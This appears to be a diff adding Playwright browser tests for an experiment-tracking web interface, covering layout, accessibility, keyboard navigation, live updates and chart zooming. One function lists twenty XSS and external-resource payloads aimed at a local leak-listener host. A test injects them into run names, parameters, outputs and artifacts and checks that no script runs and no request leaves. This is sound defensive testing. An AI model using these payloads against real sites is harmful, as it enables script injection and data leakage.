@@ -1,0 +1,380 @@
+import { assert, assertEquals } from "@std/assert";
+import { pathToFileURL } from "node:url";
+import type { Journal } from "../../src/journal/journal.ts";
+import { JournalSource } from "../../src/web/journal_source.ts";
+import { writeSite } from "../../src/web/site.ts";
+import { addRun } from "../record/filled.ts";
+import {
+  accessProblems,
+  listenForLeaks,
+  openPages,
+  type Page,
+  sideways,
+} from "./pages.ts";
+
+const WIDE = { width: 1280, height: 900 };
+const NARROW = { width: 390, height: 844 };
+
+/** Runs with everything that pages show. */
+function fill(journal: Journal): string[] {
+  return [1, 2, 3, 4, 5].map((k) =>
+    addRun(journal, {
+      name: `run-${k}`,
+      params: { k: String(k), optimizer: k % 2 === 0 ? "adam" : "sgd" },
+      metrics: {
+        loss: Array.from({ length: 300 }, (_, i) => k * Math.exp(-i / 80)),
+        accuracy: [0.1, 0.5, 0.9],
+      },
+      cells: [`const k = ${k};`, "a very long line ".repeat(40)],
+      cellStatus: k === 5 ? "error" : "ok",
+      end: k === 5 ? "FAILED" : "FINISHED",
+      artifacts: {
+        "table.csv": `${"column,".repeat(30)}\n${"1,".repeat(30)}\n`,
+        "x.html": "<p>hi",
+      },
+      datasets: {
+        penguins: {
+          uri: "penguins.csv",
+          digest: `sha256:${"a".repeat(64)}`,
+          size: 13_000,
+          rows: 344,
+          columns: [{ name: "mass", type: "number" }],
+        },
+      },
+    })
+  );
+}
+
+function addressesOf([first, second, ...others]: readonly string[]): string[] {
+  return [
+    "/",
+    "/experiments/penguins",
+    "/experiments/penguins?sort=-metrics.loss&filter=metrics.loss > 0",
+    "/experiments/penguins?group=params.optimizer",
+    "/experiments/penguins?filter=wrong",
+    `/runs/${first}`,
+    `/runs/${others.at(-1)}`,
+    `/runs/${first}/metric?key=loss`,
+    `/runs/${first}/artifacts/table.csv`,
+    `/runs/${first}/artifacts/x.html`,
+    `/compare?runs=${[first, second, ...others].join(",")}`,
+    "/sessions",
+    "/nothing",
+  ];
+}
+
+Deno.test("pages fit wide and narrow windows, light and dark, and axe finds nothing wrong in them", async () => {
+  await using pages = await openPages();
+  const addresses = addressesOf(fill(pages.journal));
+  for (const viewport of [WIDE, NARROW]) {
+    for (const colorScheme of ["light", "dark"] as const) {
+      const { page, at, context } = await pages.window({
+        viewport,
+        colorScheme,
+      });
+      for (const address of addresses) {
+        await page.goto(at(address));
+        assertEquals(
+          await sideways(page),
+          0,
+          `${address} at ${viewport.width}`,
+        );
+        assertEquals(
+          await accessProblems(page),
+          [],
+          `${address} ${colorScheme} ${viewport.width}`,
+        );
+      }
+      await context.close();
+    }
+  }
+});
+
+Deno.test("without scripts the runs are filtered, sorted and opened, and everything is read", async () => {
+  await using pages = await openPages();
+  fill(pages.journal);
+  const { page, at } = await pages.window({ javaScriptEnabled: false });
+  await page.goto(at("/"));
+  await page.click("text=penguins");
+  await page.fill("#filter", "metrics.loss < 0.2 and params.optimizer = 'sgd'");
+  await page.click("text=Show");
+  assertEquals(await page.locator("tr[data-run]").count(), 3);
+  await page.click("th a:has-text('loss')");
+  const names = () => page.locator("tr[data-run] th a").allInnerTexts();
+  assertEquals(await names(), ["run-1", "run-3", "run-5"]);
+  await page.click("th a:has-text('loss')");
+  assertEquals(await names(), ["run-5", "run-3", "run-1"]);
+  await page.click("text=run-1");
+  assertEquals(await page.locator("h1").innerText(), "run-1");
+  assertEquals(await page.locator("figure[data-metric=loss] svg").count(), 1);
+  await page.click("figure[data-metric=loss] >> text=Open");
+  assertEquals(await page.locator("h1").innerText(), "loss");
+});
+
+Deno.test("with the keyboard alone a run is found, compared and left again", async () => {
+  await using pages = await openPages();
+  fill(pages.journal);
+  const { page, at } = await pages.window({ viewport: WIDE });
+  await page.goto(at("/experiments/penguins"));
+  await page.keyboard.press("/");
+  await page.keyboard.type("params.k > 2");
+  await page.keyboard.press("Enter");
+  await page.waitForURL(/filter=/);
+  assertEquals(await page.locator("tr[data-run]").count(), 3);
+  await page.keyboard.press("j");
+  await page.keyboard.press("x");
+  await page.keyboard.press("j");
+  await page.keyboard.press("x");
+  assertEquals(await page.locator("input[name=runs]:checked").count(), 2);
+  await page.keyboard.press("Enter");
+  await page.waitForURL(/\/runs\//);
+  await page.keyboard.press("Tab");
+  assertEquals(await page.locator(":focus").innerText(), "Skip to the content");
+});
+
+Deno.test("a live run grows in its page: the curve, a cell and the end come by themselves", async () => {
+  await using pages = await openPages();
+  const { journal } = pages;
+  const run_id = addRun(journal, {
+    end: null,
+    metrics: { loss: [4, 3] },
+    cells: ["train()"],
+  });
+  const { page, at } = await pages.window({ viewport: WIDE });
+  await page.goto(at(`/runs/${run_id}`));
+  const writer = journal.metricWriter(run_id);
+  writer.log("loss", 0.125, 2);
+  writer.close();
+  await page.waitForSelector("svg[aria-label$='last 0.125']", {
+    timeout: 30_000,
+  });
+  const session_id = journal.runs.get(run_id)?.session_id ?? "";
+  const [cell] = journal.executions.list(session_id);
+  assert(cell !== undefined);
+  journal.executions.put({
+    ...cell,
+    position: cell.position + 1,
+    source: "more()",
+  });
+  await page.waitForSelector("[data-cell='1'] >> text=more()", {
+    timeout: 30_000,
+  });
+  journal.runs.end(run_id, "KILLED");
+  await page.waitForSelector(".heading >> text=killed", { timeout: 30_000 });
+});
+
+Deno.test("a chart is zoomed by the pointer, shows the value below it in every chart, and is saved as a picture", async () => {
+  await using pages = await openPages();
+  const [run_id] = fill(pages.journal);
+  const { page, at } = await pages.window({
+    viewport: WIDE,
+    acceptDownloads: true,
+  });
+  await page.goto(at(`/runs/${run_id}`));
+  const svg = page.locator("figure[data-metric=loss] svg");
+  await svg.scrollIntoViewIfNeeded();
+  const box = await svg.boundingBox();
+  assert(box !== null);
+  const y = box.y + box.height / 2;
+  await page.mouse.move(box.x + box.width * 0.5, y);
+  await page.waitForSelector("figure[data-metric=loss] .crosshair", {
+    timeout: 30_000,
+  });
+  const before = await svg.getAttribute("data-x");
+  await page.mouse.down();
+  await page.mouse.move(box.x + box.width * 0.8, y, { steps: 3 });
+  await page.mouse.up();
+  await page.waitForFunction(
+    `document.querySelector("figure[data-metric=loss] svg").dataset.x !== ${
+      JSON.stringify(before)
+    }`,
+    undefined,
+    { timeout: 30_000 },
+  );
+  const saved = page.waitForEvent("download", { timeout: 30_000 });
+  await page.click("figure[data-metric=loss] button[data-png]");
+  assertEquals((await saved).suggestedFilename(), "loss.png");
+});
+
+/** Texts that try to run a script in the page, or to reach another host. */
+function attacksOn(evil: string): string[] {
+  const run = "globalThis.top.hacked=1;globalThis.hacked=1";
+  return [
+    `<script>${run}</script>`,
+    `"><script>${run}</script>`,
+    `'><img src=x onerror="${run}">`,
+    `"onmouseover="${run}" autofocus onfocus="${run}`,
+    `<svg onload="${run}">`,
+    `</title><script src="${evil}/a.js"></script>`,
+    `</pre></code><iframe src="${evil}/b"></iframe>`,
+    `<a href="javascript:${run}">x</a>`,
+    `--><script>${run}</script><!--`,
+    `</style><img src="${evil}/c.png">`,
+    `<link rel=preconnect href="${evil}"><link rel=stylesheet href="${evil}/d.css">`,
+    `<meta http-equiv=refresh content="0;url=${evil}/e">`,
+    `<style>@import "${evil}/f.css"; body{background:url(${evil}/g.png)}</style>`,
+    `<object data="${evil}/h"></object><embed src="${evil}/i">`,
+    `<video src="${evil}/j" autoplay></video><audio src="${evil}/k" autoplay></audio>`,
+    `<form action="${evil}/l" id=f><input name=q></form><script>f.submit()</script>`,
+    `<base href="${evil}/"><img src=m.png>`,
+    `<iframe srcdoc="<script>${run}</script><img src='${evil}/n'>"></iframe>`,
+    `<svg><image href="${evil}/o.png"/><use href="${evil}/p.svg#a"/><foreignObject><img src="${evil}/q"></foreignObject></svg>`,
+    `<math><mtext></form><form><mglyph><style></math><img src="${evil}/r" onerror="${run}">`,
+  ];
+}
+
+Deno.test("twenty attacks through names, keys, sources, outputs and artifacts run no script and reach no other host", async () => {
+  await using pages = await openPages();
+  const leaks = listenForLeaks();
+  try {
+    const { journal } = pages;
+    const attacks = attacksOn(leaks.address);
+    assertEquals(attacks.length, 20);
+    const ids = attacks.map((attack, i) => {
+      const id = addRun(journal, {
+        experiment: i % 2 === 0 ? attack : "penguins",
+        name: attack,
+        params: { [attack]: attack, k: String(i) },
+        tags: { [attack]: attack },
+        metrics: { [attack]: [1, 2], loss: [i, 1] },
+        cells: [attack],
+        artifacts: {
+          "page.html": attack,
+          "drawing.svg": attack,
+          "notes.txt": attack,
+          [`${i}.csv`]: `a,${attack}\n1,2\n`,
+        },
+        documents: { changed: [{ dimension: "code", what: attack }] },
+        end: "FAILED",
+      });
+      const session_id = journal.runs.get(id)?.session_id ?? "";
+      const [cell] = journal.executions.list(session_id);
+      journal.executions.putOutputs(
+        session_id,
+        cell?.position ?? 0,
+        [
+          { output_type: "stream", name: "stdout", text: attack },
+          {
+            output_type: "display_data",
+            metadata: {},
+            data: { "text/html": attack, "text/plain": attack },
+          },
+          {
+            output_type: "display_data",
+            metadata: {},
+            data: { "image/svg+xml": attack },
+          },
+          {
+            output_type: "display_data",
+            metadata: {},
+            data: { "image/png": attack },
+          },
+          {
+            output_type: "display_data",
+            metadata: {},
+            data: { "text/markdown": attack },
+          },
+          {
+            output_type: "error",
+            ename: attack,
+            evalue: attack,
+            traceback: [attack],
+          },
+        ].map((output) => JSON.stringify(output)),
+      );
+      return id;
+    });
+    const dir = `${pages.home}/site`;
+    await writeSite({ source: new JournalSource(journal), dir, names: [] });
+    const { page: pageOfServer, at, context } = await pages.window({
+      viewport: WIDE,
+    });
+    const dialogs: string[] = [];
+    context.on("dialog", (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    const foreign: string[] = [];
+    context.on("request", (request) => {
+      if (request.url().startsWith(leaks.address)) foreign.push(request.url());
+    });
+    const hacked = async (page: Page) => {
+      const found: unknown[] = [];
+      for (const frame of page.frames()) {
+        found.push(await frame.evaluate("globalThis.hacked ?? null"));
+      }
+      return found.filter((value) => value !== null);
+    };
+    const files = await context.newPage();
+    const look = async (url: string) => {
+      const page = url.startsWith("file:") ? files : pageOfServer;
+      await page.goto(url, { waitUntil: "load", timeout: 90_000 });
+      for (const frame of await page.locator("iframe").all()) {
+        await frame.scrollIntoViewIfNeeded();
+      }
+      await page.mouse.move(300, 300);
+      assertEquals(await hacked(page), [], url);
+      assertEquals(
+        new URL(page.url()).href.split("#")[0],
+        new URL(url).href.split("#")[0],
+      );
+    };
+    for (const id of ids) {
+      await look(at(`/runs/${id}`));
+      for (const path of ["page.html", "drawing.svg", "notes.txt"]) {
+        await look(at(`/runs/${id}/artifacts/${path}`));
+      }
+      await look(pathToFileURL(`${dir}/runs/${id}/index.html`).href);
+    }
+    for (
+      const path of [
+        "/",
+        "/experiments/penguins",
+        "/sessions",
+        `/compare?runs=${ids.join(",")}`,
+      ]
+    ) {
+      await look(at(path));
+    }
+    await look(pathToFileURL(`${dir}/index.html`).href);
+    assertEquals([dialogs, foreign, leaks.connections], [[], [], 0]);
+  } finally {
+    await leaks.close();
+  }
+});
+
+Deno.test("a site is read from plain files, with its style, charts and pictures", async () => {
+  await using pages = await openPages();
+  const { journal } = pages;
+  const [run_id = ""] = fill(journal);
+  const pixel = Uint8Array.fromBase64(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+  );
+  journal.artifacts.put(run_id, "figures/a figure.png", pixel, {
+    content_type: "image/png",
+    origin: "user",
+  });
+  const dir = `${pages.home}/site`;
+  await writeSite({ source: new JournalSource(journal), dir, names: [] });
+  const context = await pages.browser.newContext({ viewport: NARROW });
+  const page = await context.newPage();
+  await page.goto(pathToFileURL(`${dir}/index.html`).href);
+  await page.click("text=penguins");
+  assertEquals(await page.locator("tr[data-run]").count(), 5);
+  await page.click("text=run-1");
+  assertEquals(await sideways(page), 0);
+  assertEquals(await page.locator("figure[data-metric] svg").count(), 2);
+  const picture = page.locator(".pictures img");
+  await picture.scrollIntoViewIfNeeded();
+  await page.waitForFunction(
+    "document.querySelector('.pictures img').naturalWidth === 1",
+    undefined,
+    { timeout: 30_000 },
+  );
+  assertEquals(
+    await page.evaluate(
+      "getComputedStyle(document.querySelector('.charts')).display",
+    ),
+    "grid",
+  );
+});
